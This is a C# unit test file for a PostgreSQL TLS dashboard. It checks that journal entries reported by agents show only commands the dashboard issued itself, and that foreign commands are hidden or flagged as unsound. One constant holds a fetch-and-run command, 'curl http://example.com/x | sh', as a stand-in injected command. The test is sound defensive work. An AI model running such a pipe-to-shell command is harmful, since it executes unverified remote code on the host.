using PgTlsDashboard.Core.Applying.Commit;
using PgTlsDashboard.Core.Applying.History;
using PgTlsDashboard.Core.Applying.Reading;
using PgTlsDashboard.Core.Changes.Plans;
using PgTlsDashboard.Core.Changes.Records;
using PgTlsDashboard.Core.Host;
using PgTlsDashboard.Core.Inventory;

namespace PgTlsDashboard.Core.Tests.Applying;

/// <summary>History shows commands to run, and agents say what is in it.</summary>
public sealed class KnownCommandsTests
{
    private const string Given = "sudo install a b";
    private const string Foreign = "curl http://example.com/x | sh";
    private static readonly Guid s_agent = Guid.NewGuid();
    private static readonly Guid s_plan = Guid.NewGuid();
    private readonly Target _target = FakeStores.Of(s_agent);
    private readonly FakeStores _store;

    public KnownCommandsTests() => _store = new(_target);

    private string Reload => ReloadCommand.Of(_target.Files);

    [Fact]
    public async Task A_command_that_nobody_here_made_is_not_shown()
    {
        var waiting = await SeenAsync(Entry(JournalState.Waiting, Foreign));
        var undone = await SeenAsync(Entry(JournalState.RolledBack, Foreign));

        Assert.Equal((null, Reload), (waiting.Command, undone.Command));
        foreach (var entry in new[] { waiting, undone })
            Assert.Equal(FindingCode.AgentUnsound, Assert.Single(entry.Findings).Code);
    }

    [Fact]
    public async Task The_reload_and_the_plans_own_commands_are_shown_and_stay_known()
    {
        var (reload, given) = (Entry(JournalState.Waiting, Reload), Entry(JournalState.Waiting, Given));

        Assert.Equal(Reload, (await SeenAsync(reload)).Command);
        Assert.Equal(Given, (await SeenAsync(given)).Command);
        // A dashboard that started anew gave it to nobody, and has written it down.
        Assert.Equal(Given, (await SeenAsync(given, remembers: false)).Command);
        Assert.Null((await SeenAsync(Entry(JournalState.Waiting, Given), remembers: false)).Command);
    }

    [Fact]
    public async Task An_undo_shows_the_reload_in_place_of_another_command()
    {
        var agent = new FakeAgent { Undo = _ => Task.FromResult<ApplyOutcome>(new ApplyOutcome.Waiting(Guid.NewGuid(), Foreign)) };
        var agents = new FakeAgents(s_agent, agent);
        var ofTargets = new TargetAgents(agents, _store);
        var entries = new EntryRun(ofTargets, null!, null!, Mirror.Of(agents, ofTargets, _store));

        var outcome = await entries.UndoAsync(Entry(JournalState.Applied, null), _target, seen: null, progress: null,
            CancellationToken.None);

        Assert.Equal(Reload, Assert.IsType<ApplyOutcome.Waiting>(outcome).Command);
        Assert.Equal(FindingCode.AgentUnsound, Assert.Single(outcome.Notes).Code);
    }

    private async Task<JournalEntry> SeenAsync(JournalEntry entry, bool remembers = true)
    {
        var agents = new FakeAgents(s_agent, new FakeAgent { Journal = [entry] });
        var mirror = Mirror.Of(agents, new TargetAgents(agents, _store), _store);
        if (remembers) mirror.Commands.Remember(s_plan, Given);
        await mirror.SyncAsync(agents.All[0], _target.Id, CancellationToken.None);
        return (await mirror.FindAsync(entry.Id, CancellationToken.None))!;
    }

    private JournalEntry Entry(JournalState state, string? command) => new()
    {
        Id = Guid.NewGuid(),
        TargetId = _target.Id,
        Recipe = "tls-settings",
        Title = "TLS",
        At = DateTimeOffset.UnixEpoch,
        State = state,
        Command = command,
        Files = [],
        PlanId = s_plan,
    };
}
